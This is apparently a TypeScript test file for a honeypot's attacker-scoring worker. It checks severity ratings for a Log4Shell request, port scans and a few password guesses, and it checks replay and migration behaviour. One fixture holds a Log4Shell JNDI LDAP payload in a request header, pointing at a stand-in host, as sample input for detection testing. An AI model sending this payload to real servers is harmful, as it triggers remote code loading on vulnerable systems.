import { attackerId } from '@decnet/kernel'
import { type Bus, createMemoryBus } from '@decnet/kernel/bus'
import type { NewLogRecord } from '@decnet/kernel/log'
import type { AnyWorker } from '@decnet/kernel/worker'
import { afterEach, beforeEach, expect, it } from 'vitest'
import { indexRules } from '../../domain/ttp/engine/index-of-rules.ts'
import { loadRules } from '../../rules/rule-files.ts'
import { findAttacker } from '../../store/attackers.ts'
import { onEachDatabase } from '../../store/fixtures/each-database.ts'
import type { Tx } from '../../store/log-table.ts'
import { MIGRATIONS, type Store } from '../../store/open.ts'
import credentials from '../credentials/worker.ts'
import { event, settle } from '../folds.fixture.ts'
import { ttpTagger } from '../ttp-tagger/worker.ts'
import profiler from './worker.ts'

/** The rules of this release. */
const index = indexRules(await loadRules([]))
const A = '203.0.113.7'

const log4shell = (at = 0): NewLogRecord[] => [
  event({ type: 'connect', at, service: 'http' }),
  event({
    type: 'http_request',
    at: at + 10,
    service: 'http',
    body: {
      method: 'GET',
      path: '/',
      headers: JSON.stringify([['X-Api-Version', `$\{jndi:ldap://198.51.100.9/a}`]]),
      user_agent: 'curl/8.5.0',
    },
  }),
  event({ type: 'disconnect', at: at + 20, service: 'http' }),
]

onEachDatabase('what rules recognise counts in the score', ({ open }) => {
  let store: Store
  let bus: Bus
  beforeEach(async () => {
    store = await open()
    bus = createMemoryBus()
  })
  afterEach(async () => {
    await bus.close()
    await store.close()
  })
  const workers = () => [credentials, profiler, ttpTagger(async () => ({ index, release: '18' }))] as unknown as readonly AnyWorker<Tx>[]
  const feed = (...records: NewLogRecord[]) => settle(store, bus, workers(), records)
  const attacker = () => findAttacker(store.db, A)
  const scored = async () =>
    (await store.db.selectFrom('log').select('body').where('topic', '=', 'attacker.scored').orderBy('seq').execute()).map(
      ({ body }) => JSON.parse(body) as { threshold: number; parts: Record<string, number> },
    )

  it('Log4Shell in a header alone is high, says why, and is announced once', async () => {
    await feed(...log4shell())
    const found = await attacker()
    expect(found?.severity).toBe('high')
    expect(found?.score_parts).toContainEqual({ part: 'techniques', points: 62, why: 'was seen at T1190' })
    await feed(...log4shell(60_000))
    const told = await scored()
    expect(told.map(({ threshold }) => threshold)).toEqual([55])
    expect(told[0]?.parts.techniques).toBeGreaterThan(50)
  })

  it('ports that are scanned leave it info', async () => {
    const ports = Array.from({ length: 60 }, (_, n) => {
      const where = { session: `scan-${n}`, decky: `decky-${n % 12}`, service: ['ssh', 'ftp', 'http', 'smtp', 'redis'][n % 5] ?? 'ssh' }
      return [event({ type: 'connect', at: n * 100, ...where }), event({ type: 'disconnect', at: n * 100 + 5, ...where })]
    })
    await feed(...ports.flat())
    expect((await attacker())?.severity).toBe('info')
  })

  it('three passwords that are guessed do not make it high', async () => {
    const guess = (secret: string, at: number) =>
      event({
        type: 'auth_attempt',
        at,
        body: {
          ...{ principal: 'root', secret_b64: Buffer.from(secret).toString('base64'), secret_printable: secret, secret_kind: 'plaintext' },
          ...{ outcome: 'failure', method: 'password' },
        },
      })
    await feed(
      event({ type: 'connect' }),
      ...['root', '123456', 'admin'].map((secret, n) => guess(secret, 1_000 * n)),
      event({ type: 'disconnect' }),
    )
    expect(['info', 'low']).toContain((await attacker())?.severity)
  })

  it('read again from the beginning, the log changes nothing', async () => {
    await feed(...log4shell())
    const rows = () => store.db.selectFrom('attackers').selectAll().execute()
    const [before, told] = [await rows(), await scored()]
    await store.db.updateTable('cursors').set({ seq: 0 }).where('name', '=', 'profiler').execute()
    await feed()
    expect(await rows()).toEqual(before)
    expect(await scored()).toEqual(told)
  })

  it('also what was recognised before techniques counted, when the store is brought up to date', async () => {
    await feed(...log4shell())
    const [before] = await store.db.selectFrom('attackers').selectAll().execute()
    await store.db
      .updateTable('attackers')
      .set({ score: 1, severity: 'info', score_parts: '[]' })
      .where('uuid', '=', attackerId(A))
      .execute()
    await store.db.schema.alterTable('attackers').dropColumn('techniques').execute()
    await MIGRATIONS['0010-recognised']?.up(store.db)
    expect(await store.db.selectFrom('attackers').selectAll().execute()).toEqual([before])
  })
})
